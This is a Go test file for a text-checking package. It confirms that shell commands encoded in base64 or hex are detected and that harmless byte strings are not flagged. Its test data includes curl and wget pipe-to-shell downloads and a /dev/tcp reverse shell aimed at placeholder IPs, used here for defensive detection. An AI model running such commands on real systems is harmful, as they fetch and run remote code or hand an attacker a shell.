package textcheck

import (
	"encoding/base64"
	"encoding/hex"
	"testing"
)

// TestEncodedCommandLines: what has more digits and signs than letters is text all the
// same where a shell would run it.
func TestEncodedCommandLines(t *testing.T) {
	for _, command := range []string{
		"curl http://192.0.2.7:8080/x | sh",
		"/bin/sh -i >& /dev/tcp/192.0.2.7/4444 0>&1",
		"wget -qO- 198.51.100.9:81/a|sh",
	} {
		wantReading(t, "Setup: "+base64.StdEncoding.EncodeToString([]byte(command)), readingBase64, command)
		wantReading(t, "Setup: "+hex.EncodeToString([]byte(command)), readingHex, command)
	}
	for _, b := range [][]byte{[]byte("0123456789ab"), []byte("12 34 56 78 90 12"), []byte("short cmd"), []byte("abc \x00 defghi jkl")} {
		if commandLine(b) {
			t.Errorf("%q is taken for a command line", b)
		}
	}
}
